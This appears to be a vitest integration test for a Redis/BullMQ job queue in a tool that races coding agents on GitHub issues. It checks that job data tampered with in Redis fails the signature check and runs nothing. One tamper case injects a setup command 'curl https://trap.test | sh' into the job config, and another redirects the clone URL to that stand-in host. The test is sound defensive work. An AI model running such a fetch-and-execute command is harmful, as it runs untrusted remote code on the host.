import { randomUUID } from "node:crypto";
import { Writable } from "node:stream";
import { Job, Queue, Worker } from "bullmq";
import { Redis } from "ioredis";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { JobQueues } from "../../../src/queue/job-queues.js";
import { agentSpecSchema } from "../../../src/config/repo-config.js";
import { JOB_VERSION, raceJobSchema, type RaceJob } from "../../../src/queue/job-data.js";
import { openLaneJob } from "../../../src/workers/open-lane-job.js";
import { JobSeal, jobKey } from "../../../src/queue/job-seal.js";
import { QUEUES } from "../../../src/queue/queue-names.js";
import { LaneCancellations } from "../../../src/workers/lane-cancellations.js";
import { openJobData } from "../../../src/workers/open-job-data.js";
import { processLaneJob } from "../../../src/workers/process-lane-job.js";
import type { WorkerDeps } from "../../../src/workers/worker-deps.js";

const REDIS_URL = process.env.REDIS_URL ?? "redis://127.0.0.1:6379";
const GIT_HOST = "https://github.com/";

function race(raceId: string): RaceJob {
  return {
    v: JOB_VERSION, raceId, installationId: 1, issueNumber: 3, issueTitle: "t", task: "do it", baseSha: "a".repeat(40), configText: null, lanesTotal: 1,
    repo: { id: 9, owner: "octo", name: "widgets", cloneUrl: `${GIT_HOST}octo/widgets.git`, htmlUrl: `${GIT_HOST}octo/widgets`, defaultBranch: "main" },
    trigger: "label", retry: null, sender: "alice", single: false,
    lanes: [{ lane: 1, agent: "claude", approach: null, branch: `agent-race/t-${raceId}/1-claude`, port: 4101, spec: agentSpecSchema.parse({ command: ["claude"] }), sandboxed: false }],
  };
}

describe("a queued lane job changed in Redis is refused by the lane worker", () => {
  const prefix = `agent-race-test-tamper-${randomUUID().slice(0, 8)}`;
  let redis: Redis;
  let queues: JobQueues;
  const logged: string[] = [];
  const touched: string[] = [];
  let deps: WorkerDeps;

  beforeAll(() => {
    redis = new Redis(REDIS_URL, { maxRetriesPerRequest: null });
    queues = new JobQueues(redis, prefix, new JobSeal(jobKey({ AGENT_RACE_JOB_KEY: "a-test-key-of-at-least-32-characters" })));
    const log = pino({ level: "info" }, new Writable({ write: (chunk: Buffer, _enc, done) => (logged.push(chunk.toString()), done()) }));
    // Anything past the job check would reach these: they record it.
    const record = (name: string): unknown => new Proxy({}, { get: (_t, key) => (touched.push(`${name}.${String(key)}`), () => Promise.reject(new Error(`${name} touched`))) });
    deps = {
      connection: redis, subscriber: redis, prefix, queues, log, operator: {} as WorkerDeps["operator"], cacheDir: "/nonexistent", worktreeRoot: "/nonexistent",
      registry: record("registry") as WorkerDeps["registry"], laneSlots: record("laneSlots") as WorkerDeps["laneSlots"], agentGroups: record("agentGroups") as WorkerDeps["agentGroups"],
      github: { gitHost: GIT_HOST, clientFor: () => (touched.push("clientFor"), Promise.reject(new Error("no"))), tokenFor: () => (touched.push("tokenFor"), Promise.reject(new Error("no"))), appSlug: async () => "agent-race" },
      sandbox: null, laneConcurrency: 1, lockDurationMs: 30_000,
    } as WorkerDeps;
  });
  afterAll(async () => {
    await queues.close();
    const keys = await redis.keys(`${prefix}:*`);
    if (keys.length > 0) await redis.del(...keys);
    redis.disconnect();
  });

  async function queued(raceId: string): Promise<{ job: Job; key: string; raceKey: string }> {
    await queues.enqueueRace(race(raceId));
    const jobId = `lane-${raceId}-1`;
    const lanes = new Queue(QUEUES.lanes, { connection: redis, prefix });
    const job = await Job.fromId(lanes, jobId);
    await lanes.close();
    if (!job) throw new Error("lane job not queued");
    return { job, key: `${prefix}:${QUEUES.lanes}:${jobId}`, raceKey: `${prefix}:${QUEUES.races}:race-${raceId}` };
  }

  it("accepts the job as queued (signed, canonical clone URL)", async () => {
    const { job } = await queued("untouched1");
    expect((await openLaneJob(job, deps)).repo.cloneUrl).toBe(`${GIT_HOST}octo/widgets.git`);
    await redis.del(`${prefix}:${QUEUES.lanes}:${job.id ?? ""}`);
    await redis.lrem(`${prefix}:${QUEUES.lanes}:wait`, 0, job.id ?? "");
  });

  // The lane job names its lane; the race job it reads its task, config and repository from is its parent.
  it.each([
    ["race's cloneUrl", "race", (data: Record<string, unknown>) => ({ ...data, repo: { ...(data.repo as object), cloneUrl: "https://trap.test/octo/widgets.git" } }), /signature does not match/],
    ["race's configText", "race", (data: Record<string, unknown>) => ({ ...data, configText: "setup: ['curl https://trap.test | sh']" }), /signature does not match/],
    ["lane's lane number", "lane", (data: Record<string, unknown>) => ({ ...data, lane: 2 }), /signature does not match/],
    ["lane's signature stripped", "lane", (data: Record<string, unknown>) => ({ ...data, sig: undefined }), /not signed/],
  ])("refuses a job whose %s was rewritten with HSET: fails unrecoverably, runs nothing, logs it", async (field, which, tamper, reason) => {
    const raceId = `tamper${field.replace(/\W/g, "").toLowerCase()}`;
    const { key, raceKey } = await queued(raceId);
    const target = which === "race" ? raceKey : key;
    const raw = JSON.parse((await redis.hget(target, "data")) ?? "{}") as Record<string, unknown>;
    await redis.hset(target, "data", JSON.stringify(tamper(raw)));
    touched.length = 0;
    logged.length = 0;
    const cancellations = new LaneCancellations();
    const worker = new Worker(QUEUES.lanes, (job, token) => processLaneJob(job, token, deps, cancellations), { connection: redis.duplicate(), prefix, autorun: false });
    const failed = new Promise<{ id: string | undefined; reason: string; attempts: number }>((resolve) => {
      worker.on("failed", (job, error) => resolve({ id: job?.id, reason: error.message, attempts: job?.attemptsMade ?? -1 }));
    });
    void worker.run();
    const outcome = await failed;
    await worker.close();
    expect(outcome.id).toBe(`lane-${raceId}-1`);
    expect(outcome.reason).toMatch(reason);
    expect(outcome.attempts).toBe(1);
    const lanes = new Queue(QUEUES.lanes, { connection: redis, prefix });
    const state = await (await Job.fromId(lanes, `lane-${raceId}-1`))?.getState();
    await lanes.close();
    expect(state).toBe("failed");
    expect(touched).toEqual([]);
    expect(logged.join("")).toContain("job refused");
  });

  it("refuses an unsigned job whose clone URL is off the configured host even without a key", () => {
    const unsigned = { ...deps, queues: new JobQueues(redis, prefix) };
    const data = race("nokey");
    const job = { id: "x", queueName: "races", data: { ...data, repo: { ...data.repo, cloneUrl: "https://trap.test/octo/widgets.git" } } } as unknown as Job;
    expect(() => openJobData(job, raceJobSchema, unsigned)).toThrow(/not https:\/\/github.com\/octo\/widgets.git/);
    void unsigned.queues.close();
  });
});
